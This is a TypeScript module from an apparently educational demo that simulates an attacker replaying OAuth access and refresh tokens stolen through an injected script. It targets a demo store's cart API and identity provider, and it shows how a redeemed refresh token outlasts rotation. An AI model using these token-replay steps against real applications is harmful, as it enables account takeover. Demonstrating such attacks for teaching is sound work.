import type { AttackKind } from '../protocol.ts';
import { decodeJwt } from 'jose';
import { AttackNotPossible } from './run-attack.ts';
import { answer, type AttackContext, type AttackOutcome, type AttackPlan } from './attack-plans.ts';

// The attacks of a script injected into the app's page. The script itself runs in the reader's
// browser (apps/assets/injected-script.js); what it got arrives here as loot, and the hacker's own
// client tries it against the Store's API, as a thief far from the reader's browser would.

const API_CART = '/cart';

/** Trades a refresh token of the browser-only client for new tokens at the identity provider, as that public client. */
async function redeemRefreshToken({ hacker, browserClientId }: AttackContext, refreshToken: string): Promise<{ access: string; refresh: string | undefined } | { refused: string }> {
  const renewed = await hacker({ to: 'idp', method: 'POST', path: '/oauth2/token', cookies: {}, form: { grant_type: 'refresh_token', refresh_token: refreshToken, client_id: browserClientId } });
  const body = renewed.status === 200 ? (JSON.parse(renewed.body) as { access_token?: string; refresh_token?: string }) : {};
  return body.access_token ? { access: body.access_token, refresh: body.refresh_token } : { refused: answer(renewed) };
}

/** A JWT's expiry as its claims state it (the hacker reads them without checking the signature); 0 when it has none. */
function expiryOf(jwt: string): number {
  try {
    return decodeJwt(jwt).exp ?? 0;
  } catch {
    return 0;
  }
}

/**
 * The hacker calls the Store's API with the stolen access token that expires last (a script that
 * watched a refresh copied the old one too), and redeems a stolen refresh token for tokens of its
 * own, keeping the new refresh token for later (with rotation, that spends the token the app holds).
 * Only if no stolen access token worked does it show the cart with the one it got.
 */
async function useTokens(attack: AttackContext): Promise<{ worked: string[]; tried: string[] }> {
  const { hacker, loot, run } = attack;
  const worked: string[] = [];
  const tried: string[] = [];
  for (const token of [...loot.tokens].sort((a, b) => expiryOf(b) - expiryOf(a))) {
    const cart = await hacker({ to: 'api', method: 'GET', path: API_CART, cookies: {}, bearer: token });
    if (cart.status === 200) {
      worked.push('a stolen access token');
      break;
    }
    tried.push(`an access token (${answer(cart)})`);
  }
  for (const refreshToken of loot.refreshTokens) {
    const renewed = await redeemRefreshToken(attack, refreshToken);
    if ('refused' in renewed) {
      tried.push(`a refresh token, which the identity provider refused (${renewed.refused})`);
      continue;
    }
    if (renewed.refresh) run.hackerRefreshToken = renewed.refresh;
    if (worked.length === 0) {
      const cart = await hacker({ to: 'api', method: 'GET', path: API_CART, cookies: {}, bearer: renewed.access });
      if (cart.status !== 200) {
        tried.push(`a refresh token (${answer(cart)})`);
        continue;
      }
    }
    worked.push('a stolen refresh token, redeemed for tokens of the hacker’s own');
    break;
  }
  return { worked, tried };
}

function scriptTokenAttack(kind: AttackKind, what: string): AttackPlan {
  return {
    kind,
    async carryOut(attack): Promise<AttackOutcome> {
      const { loot } = attack;
      if (loot.tokens.length === 0 && loot.refreshTokens.length === 0) {
        const why = loot.notes?.length ? ` ${loot.notes.join(' ')}` : '';
        return { succeeded: false, summary: `The injected script ${what}, and found no token to send the hacker: none lies where script can read it.${why}` };
      }
      const { worked, tried } = await useTokens(attack);
      const why = loot.notes?.length ? ` ${loot.notes.join(' ')}` : '';
      return worked.length > 0
        ? { succeeded: true, summary: `The injected script ${what}, and sent the hacker ${loot.tokens.length + loot.refreshTokens.length} token(s). With ${worked.join(', and with ')}, the hacker's own client got at the cart in the Store's API, far from your browser.${why}` }
        : { succeeded: false, summary: `The injected script ${what}, and sent the hacker some tokens, but none worked any more: ${tried.join('; ')}.${why}` };
    },
  };
}

/** (a) Single-execution token theft. */
export const scriptStealsTokens = scriptTokenAttack('xss-steal', 'read the cookies and both storages once');
/** (b) Persistent token theft: the script watches every request and token answer while the page lives. */
export const scriptKeepsStealing = scriptTokenAttack('xss-persist', 'wrapped fetch, let the app reload its data, and copied every token that passed');
/** (c) Acquisition of new tokens through the page's own origin. */
export const scriptAcquiresTokens = scriptTokenAttack('xss-acquire', 'asked for tokens of its own, with a silent authorization request and any token endpoint the page uses');

/** (d) Proxying: the script makes the app fetch the data and reads it off the page; no token needed. */
export const scriptUsesTheApp: AttackPlan = {
  kind: 'xss-proxy',
  async carryOut({ loot }) {
    return loot.data
      ? { succeeded: true, summary: `The injected script had the app load the cart, with everything your browser attaches, and read it off the page: "${loot.data.slice(0, 120)}". This works in every architecture for as long as the page is open.` }
      : { succeeded: false, summary: 'The injected script found no cart to read on the page: log in first.' };
  },
};

/**
 * The hacker comes back with the refresh token it got by redeeming a stolen one (xss-persist or
 * xss-acquire against a browser-only client) and tries to renew it again. It works until the
 * identity provider revokes the token's family: when someone presents a rotated-out token of that
 * family (the app, whose token the hacker's redemption spent), or at logout.
 */
export const hackerRenewsItsRefreshToken: AttackPlan = {
  kind: 'stolen-refresh-token',
  async carryOut(attack) {
    const kept = attack.run.hackerRefreshToken;
    if (!kept) throw new AttackNotPossible('The hacker holds no refresh token yet: let the injected script steal one first (keep stealing tokens, after the JWT has expired).');
    const renewed = await redeemRefreshToken(attack, kept);
    if ('refused' in renewed) {
      attack.run.hackerRefreshToken = undefined;
      return { succeeded: false, summary: `The identity provider refused the refresh token the hacker got with the stolen one (${renewed.refused}): its whole family has been revoked, or it expired.` };
    }
    if (renewed.refresh) attack.run.hackerRefreshToken = renewed.refresh;
    const cart = await attack.hacker({ to: 'api', method: 'GET', path: API_CART, cookies: {}, bearer: renewed.access });
    return cart.status === 200
      ? { succeeded: true, summary: "The identity provider renewed the hacker's refresh token once more, and the hacker read the cart with the new access token: the stolen login lives on until someone presents a rotated-out token of its family." }
      : { succeeded: false, summary: `The identity provider renewed the hacker's refresh token, but the Store's API refused the access token (${answer(cart)}).` };
  },
};

/** The four attacks, in the order the articles draw them. */
export const INJECTED_SCRIPT_ATTACKS: readonly AttackPlan[] = [scriptStealsTokens, scriptKeepsStealing, scriptAcquiresTokens, scriptUsesTheApp];
